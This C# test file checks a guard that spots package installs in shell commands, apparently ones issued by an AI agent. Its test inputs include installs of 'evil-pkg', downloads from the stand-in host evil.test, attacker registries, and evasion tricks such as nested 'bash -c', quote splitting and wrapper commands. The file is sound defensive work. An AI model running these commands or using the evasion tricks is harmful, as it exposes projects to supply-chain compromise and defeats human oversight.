using Wright.Permissions.Dependencies;
using Wright.Permissions.Dependencies.Recognition;

namespace Wright.Tests.Permissions.Dependencies;

/// <summary>Every install form the guard must see, through every wrapper and chain a model could put around it.</summary>
public sealed class InstallCommandsTests
{
    private const string Ws = "/ws/proj";

    private static string Found(string command) =>
        string.Join(" | ", InstallCommands.Find(command, Ws).Select(r => $"{r.Ecosystem}:{r.Kind}:{r.Name}"));

    [Theory]
    // npm, pnpm, yarn, bun: every spelling of install, versions, scopes, aliases, tags
    [InlineData("npm install evil-pkg", "Npm:Package:evil-pkg")]
    [InlineData("npm i evil-pkg@^1.2.3", "Npm:Package:evil-pkg")]
    [InlineData("npm isntall -D @evil/pkg@latest", "Npm:Package:@evil/pkg")]
    [InlineData("npm add --save-exact real-name@npm:evil-pkg@1.0.0", "Npm:Package:evil-pkg")]
    [InlineData("npm install --registry https://registry.npmjs.org evil-pkg", "Npm:Package:evil-pkg")]
    [InlineData("npm -g install evil-pkg", "Npm:Package:evil-pkg")]
    [InlineData("pnpm add evil-pkg", "Npm:Package:evil-pkg")]
    [InlineData("pnpm -C packages/a install evil-pkg", "Npm:Package:evil-pkg")]
    [InlineData("yarn add evil-pkg@1", "Npm:Package:evil-pkg")]
    [InlineData("yarn global add evil-pkg", "Npm:Package:evil-pkg")]
    [InlineData("bun add evil-pkg", "Npm:Package:evil-pkg")]
    [InlineData("bun i -d evil-pkg", "Npm:Package:evil-pkg")]
    // runners that fetch what they run
    [InlineData("npx evil-pkg --flag", "Npm:Package:evil-pkg")]
    [InlineData("npx -y evil-pkg@2 init", "Npm:Package:evil-pkg")]
    [InlineData("npx -p evil-pkg some-bin", "Npm:Package:evil-pkg")]
    [InlineData("npx --package=evil-pkg -c 'some-bin x'", "Npm:Package:evil-pkg")]
    [InlineData("npm exec -- evil-pkg", "Npm:Package:evil-pkg")]
    [InlineData("pnpm dlx evil-pkg", "Npm:Package:evil-pkg")]
    [InlineData("yarn dlx evil-pkg", "Npm:Package:evil-pkg")]
    [InlineData("bunx evil-pkg", "Npm:Package:evil-pkg")]
    [InlineData("bun x evil-pkg", "Npm:Package:evil-pkg")]
    [InlineData("npm init evil", "Npm:Package:create-evil")]
    [InlineData("yarn create @evil/app", "Npm:Package:@evil/create-app")]
    [InlineData("npm pkg set dependencies.evil-pkg=^1.0.0", "Npm:Package:evil-pkg")]
    // Python
    [InlineData("pip install evil-pkg", "PyPI:Package:evil-pkg")]
    [InlineData("pip3 install 'evil-pkg[extra1,extra2]>=1.0; python_version<\"3.12\"'", "PyPI:Package:evil-pkg")]
    [InlineData("pip3.12 install --upgrade evil_pkg==2.0", "PyPI:Package:evil_pkg")]
    [InlineData("python3 -m pip install --user evil-pkg", "PyPI:Package:evil-pkg")]
    [InlineData("python -mpip install evil-pkg", "PyPI:Package:evil-pkg")]
    [InlineData("pip install -t /tmp/x evil-pkg", "PyPI:Package:evil-pkg")]
    [InlineData("pip download evil-pkg", "PyPI:Package:evil-pkg")]
    [InlineData("uv pip install evil-pkg", "PyPI:Package:evil-pkg")]
    [InlineData("uv add evil-pkg --dev", "PyPI:Package:evil-pkg")]
    [InlineData("uv tool install evil-pkg", "PyPI:Package:evil-pkg")]
    [InlineData("uvx evil-pkg --help", "PyPI:Package:evil-pkg")]
    [InlineData("uvx --from evil-pkg some-cmd", "PyPI:Package:evil-pkg")]
    [InlineData("uv run --with evil-pkg python x.py", "PyPI:Package:evil-pkg")]
    [InlineData("poetry add evil-pkg@^1.0", "PyPI:Package:evil-pkg")]
    [InlineData("poetry add --group dev 'evil-pkg>=1'", "PyPI:Package:evil-pkg")]
    [InlineData("pipx install evil-pkg", "PyPI:Package:evil-pkg")]
    [InlineData("pipx run evil-pkg", "PyPI:Package:evil-pkg")]
    // Rust, Go, .NET, Ruby, PHP
    [InlineData("cargo add evil-crate@1.2", "Crates:Package:evil-crate")]
    [InlineData("cargo add --dev -F derive evil-crate", "Crates:Package:evil-crate")]
    [InlineData("cargo +nightly install evil-crate", "Crates:Package:evil-crate")]
    [InlineData("go get github.com/evil/pkg@v1.2.3", "Go:Package:github.com/evil/pkg")]
    [InlineData("go get -u github.com/evil/pkg/sub/...", "Go:Package:github.com/evil/pkg/sub")]
    [InlineData("go install github.com/evil/tool@latest", "Go:Package:github.com/evil/tool")]
    [InlineData("go run github.com/evil/tool@v1.0.0 --x", "Go:Package:github.com/evil/tool")]
    [InlineData("go mod edit -require=github.com/evil/pkg@v1.0.0", "Go:Package:github.com/evil/pkg")]
    [InlineData("dotnet add package Evil.Package", "NuGet:Package:Evil.Package")]
    [InlineData("dotnet add src/App/App.csproj package Evil.Package -v 1.0.0", "NuGet:Package:Evil.Package")]
    [InlineData("dotnet package add Evil.Package --project src/App", "NuGet:Package:Evil.Package")]
    [InlineData("dotnet tool install -g evil-tool", "NuGet:Package:evil-tool")]
    [InlineData("dotnet new install Evil.Templates::1.0.0", "NuGet:Package:Evil.Templates")]
    [InlineData("gem install evil-gem -v 1.0", "RubyGems:Package:evil-gem")]
    [InlineData("gem install evil-gem:1.0", "RubyGems:Package:evil-gem")]
    [InlineData("bundle add evil-gem", "RubyGems:Package:evil-gem")]
    [InlineData("composer require evil/pkg:^1.0", "Packagist:Package:evil/pkg")]
    [InlineData("composer require --dev evil/pkg 2.0", "Packagist:Package:evil/pkg")]
    [InlineData("composer global require evil/pkg", "Packagist:Package:evil/pkg")]
    public void Recognises_every_install_form(string command, string expected) => Assert.Equal(expected, Found(command));

    [Theory]
    // chains, lists, pipelines, groups, loops, conditionals, substitutions, comments
    [InlineData("cd sub && npm i evil-pkg")]
    [InlineData("npm test; npm i evil-pkg")]
    [InlineData("true || npm i evil-pkg")]
    [InlineData("npm i evil-pkg &")]
    [InlineData("(cd sub; npm i evil-pkg)")]
    [InlineData("{ npm i evil-pkg; }")]
    [InlineData("if true; then npm i evil-pkg; fi")]
    [InlineData("for x in 1; do npm i evil-pkg; done")]
    [InlineData("while false; do :; done; npm i evil-pkg")]
    [InlineData("echo $(npm i evil-pkg)")]
    [InlineData("echo `npm i evil-pkg`")]
    [InlineData("cat <(npm i evil-pkg)")]
    [InlineData("npm ls\nnpm i evil-pkg")]
    [InlineData("npm i evil-pkg # just a comment")]
    // environment prefixes and wrappers
    [InlineData("NODE_ENV=production npm i evil-pkg")]
    [InlineData("sudo npm i -g evil-pkg")]
    [InlineData("sudo -u builder -H npm i evil-pkg")]
    [InlineData("sudo -E env PATH=/x npm i evil-pkg")]
    [InlineData("env -i HOME=/tmp npm i evil-pkg")]
    [InlineData("env -S 'npm i evil-pkg'")]
    [InlineData("doas npm i evil-pkg")]
    [InlineData("nice -n 10 npm i evil-pkg")]
    [InlineData("nohup npm i evil-pkg &")]
    [InlineData("time npm i evil-pkg")]
    [InlineData("timeout -s KILL 60 npm i evil-pkg")]
    [InlineData("stdbuf -oL npm i evil-pkg")]
    [InlineData("ionice -c 3 npm i evil-pkg")]
    [InlineData("command npm i evil-pkg")]
    [InlineData("exec npm i evil-pkg")]
    [InlineData("setsid npm i evil-pkg")]
    [InlineData("flock /tmp/lock npm i evil-pkg")]
    [InlineData("flock /tmp/lock -c 'npm i evil-pkg'")]
    [InlineData("corepack npm i evil-pkg")]
    [InlineData("/usr/local/bin/npm i evil-pkg")]
    // quoting tricks that the shell removes
    [InlineData("\"npm\" \"i\" \"evil-pkg\"")]
    [InlineData("n\\pm i evil-pkg")]
    [InlineData("$'npm' i $'evil-pkg'")]
    [InlineData("'np'm i ev'il-pkg'")]
    // command strings
    [InlineData("bash -c 'npm i evil-pkg'")]
    [InlineData("sh -ec \"npm i evil-pkg\"")]
    [InlineData("sudo sh -c 'cd /tmp && npm i -g evil-pkg'")]
    [InlineData("eval 'npm i evil-pkg'")]
    [InlineData("su -c 'npm i evil-pkg' root")]
    [InlineData("watch -n 5 npm i evil-pkg")]
    [InlineData("bash -c \"bash -c 'npm i evil-pkg'\"")]
    public void Finds_the_install_in_any_chain_or_wrapper(string command) => Assert.Equal("Npm:Package:evil-pkg", Found(command));

    [Theory]
    [InlineData("npm test")]
    [InlineData("npm run build")]
    [InlineData("npm install")]
    [InlineData("npm ci")]
    [InlineData("npm i ./packages/local-lib")]
    [InlineData("npm i ../x.tgz")]
    [InlineData("npm i file:../lib")]
    [InlineData("pnpm add workspace:lib")]
    [InlineData("pip install -e .")]
    [InlineData("pip install ./dist/pkg-1.0-py3-none-any.whl")]
    [InlineData("pip install -r requirements.txt")]
    [InlineData("pip install -r requirements/dev.txt")]
    [InlineData("pip list")]
    [InlineData("poetry install")]
    [InlineData("uv sync")]
    [InlineData("cargo build")]
    [InlineData("cargo install --path .")]
    [InlineData("go build ./...")]
    [InlineData("go get ./...")]
    [InlineData("go install ./cmd/tool")]
    [InlineData("go get fmt")]
    [InlineData("go get github.com/x/y@none")]
    [InlineData("dotnet restore")]
    [InlineData("dotnet build")]
    [InlineData("nuget install packages.config")]
    [InlineData("gem install ./pkg/x-1.0.gem")]
    [InlineData("bundle install")]
    [InlineData("composer install")]
    [InlineData("composer require php:^8.2 ext-json")]
    [InlineData("echo npm install evil-pkg")]
    [InlineData("grep 'npm i evil-pkg' notes.md")]
    [InlineData("git commit -m 'pip install evil-pkg'")]
    [InlineData("command -v npm")]
    [InlineData("cat > notes.txt <<'EOF'\nnpm i evil-pkg\nEOF")]
    public void Sees_no_new_dependency_where_there_is_none(string command) => Assert.Equal("", Found(command));

    [Theory]
    [InlineData("npm i git+https://github.com/evil/pkg.git", "Npm:Url:git+https://github.com/evil/pkg.git")]
    [InlineData("npm i evil/pkg", "Npm:Url:evil/pkg")]
    [InlineData("npm i https://evil.test/pkg.tgz", "Npm:Url:https://evil.test/pkg.tgz")]
    [InlineData("pip install git+https://github.com/evil/pkg", "PyPI:Url:git+https://github.com/evil/pkg")]
    [InlineData("pip install 'pkg @ https://evil.test/pkg.whl'", "PyPI:Url:pkg @ https://evil.test/pkg.whl")]
    [InlineData("pip install -e git+https://github.com/evil/pkg#egg=pkg", "PyPI:Url:git+https://github.com/evil/pkg#egg=pkg")]
    [InlineData("cargo add --git https://github.com/evil/crate evil", "Crates:Url:https://github.com/evil/crate")]
    [InlineData("bundle add evil --git https://github.com/evil/gem", "RubyGems:Url:https://github.com/evil/gem")]
    public void Reports_urls_and_repositories(string command, string expected) => Assert.Equal(expected, Found(command));

    [Theory]
    [InlineData("pip install --index-url https://pypi.evil.test/simple requests", "PyPI:Package:requests | PyPI:OtherIndex:https://pypi.evil.test/simple")]
    [InlineData("pip install --extra-index-url https://pypi.evil.test/simple requests", "PyPI:Package:requests | PyPI:OtherIndex:https://pypi.evil.test/simple")]
    [InlineData("pip install -i https://pypi.org/simple requests", "PyPI:Package:requests")]
    [InlineData("npm i --registry https://npm.evil.test lodash", "Npm:Package:lodash | Npm:OtherIndex:https://npm.evil.test")]
    [InlineData("cargo add --registry evil serde", "Crates:Package:serde | Crates:OtherIndex:evil")]
    [InlineData("gem install rails --source https://gems.evil.test", "RubyGems:Package:rails | RubyGems:OtherIndex:https://gems.evil.test")]
    [InlineData("dotnet add package Newtonsoft.Json -s https://nuget.evil.test/v3/index.json", "NuGet:Package:Newtonsoft.Json | NuGet:OtherIndex:https://nuget.evil.test/v3/index.json")]
    public void Reports_other_registries_and_indexes(string command, string expected) => Assert.Equal(expected, Found(command));

    [Theory]
    [InlineData("npm i $PKG", "Npm:Computed:$PKG")]
    [InlineData("pip install \"$(cat name.txt)\"", "PyPI:Computed:$(…)")]
    [InlineData("cargo add ${CRATE}", "Crates:Computed:${CRATE}")]
    [InlineData("cat list.txt | xargs npm install", "Npm:FromInput:npm")]
    [InlineData("xargs -n1 pip install < names.txt", "PyPI:FromInput:pip")]
    [InlineData("pip install -r /tmp/other-list", "PyPI:FromInput:/tmp/other-list")]
    [InlineData("pip install -r - <<EOF\nevil\nEOF", "PyPI:FromInput:-")]
    [InlineData("pip install -r https://evil.test/req.txt", "PyPI:Url:https://evil.test/req.txt")]
    public void Reports_names_nobody_can_see_before_the_command_runs(string command, string expected) => Assert.Equal(expected, Found(command));

    [Theory]
    [InlineData("echo 'evil-pkg==1.0' >> requirements.txt", "PyPI:ShellManifestWrite:requirements.txt")]
    [InlineData("cat > package.json <<'EOF'\n{}\nEOF", "Npm:ShellManifestWrite:package.json")]
    [InlineData("sed -i 's/a/b/' Cargo.toml", "Crates:ShellManifestWrite:Cargo.toml")]
    [InlineData("cp /tmp/evil.json package.json", "Npm:ShellManifestWrite:package.json")]
    [InlineData("curl -o requirements-dev.txt https://evil.test/r", "PyPI:ShellManifestWrite:requirements-dev.txt")]
    [InlineData("printf x | tee -a go.mod", "Go:ShellManifestWrite:go.mod")]
    [InlineData("echo '{}' > package-lock.json", "Npm:ShellManifestWrite:package-lock.json")]
    [InlineData("cd app && echo x >> Gemfile", "RubyGems:ShellManifestWrite:app/Gemfile")]
    public void Reports_commands_that_write_a_manifest_themselves(string command, string expected) => Assert.Equal(expected, Found(command));

    [Fact]
    public void Rm_and_touch_add_nothing() => Assert.Equal("", Found("rm package-lock.json && touch requirements.txt"));

    [Fact]
    public void Several_packages_of_several_managers_in_one_line_are_all_found()
    {
        var found = Found("npm i a-pkg b-pkg && pip install c-pkg d-pkg; cargo add e-crate");
        Assert.Equal("Npm:Package:a-pkg | Npm:Package:b-pkg | PyPI:Package:c-pkg | PyPI:Package:d-pkg | Crates:Package:e-crate", found);
    }

    [Fact]
    public void Cd_moves_where_the_install_runs()
    {
        var requests = InstallCommands.Find("cd web && npm i a-pkg; cd /ws/proj/api; pip install b-pkg", Ws);
        Assert.Equal("/ws/proj/web", requests[0].Directory);
        Assert.Equal("/ws/proj/api", requests[1].Directory);
        Assert.Equal("npm i a-pkg", requests[0].Origin);
    }

    [Fact]
    public void Directory_options_say_where_the_install_runs()
    {
        Assert.Equal("/ws/proj/pkgs/a", InstallCommands.Find("npm --prefix pkgs/a i x-pkg", Ws)[0].Directory);
        Assert.Equal("/ws/proj/pkgs/b", InstallCommands.Find("pnpm --dir pkgs/b add x-pkg", Ws)[0].Directory);
        Assert.Equal("/ws/proj/svc", InstallCommands.Find("go -C svc get github.com/x/y", Ws)[0].Directory);
        Assert.Equal("/ws/proj/src/App", InstallCommands.Find("dotnet add src/App/App.csproj package X.Y", Ws)[0].Directory);
    }

    [Fact]
    public void Command_strings_nest_only_so_deep()
    {
        var line = "npm i evil-pkg";
        for (var i = 0; i < 10; i++)
            line = "bash -c " + Shell.Quote(line);
        // Deeper than the limit: not followed, so it cannot be judged — a person looks at it.
        Assert.StartsWith("Npm:Computed:bash -c", Found(line), StringComparison.Ordinal);
    }

    private static class Shell
    {
        public static string Quote(string s) => "'" + s.Replace("'", "'\\''", StringComparison.Ordinal) + "'";
    }
}
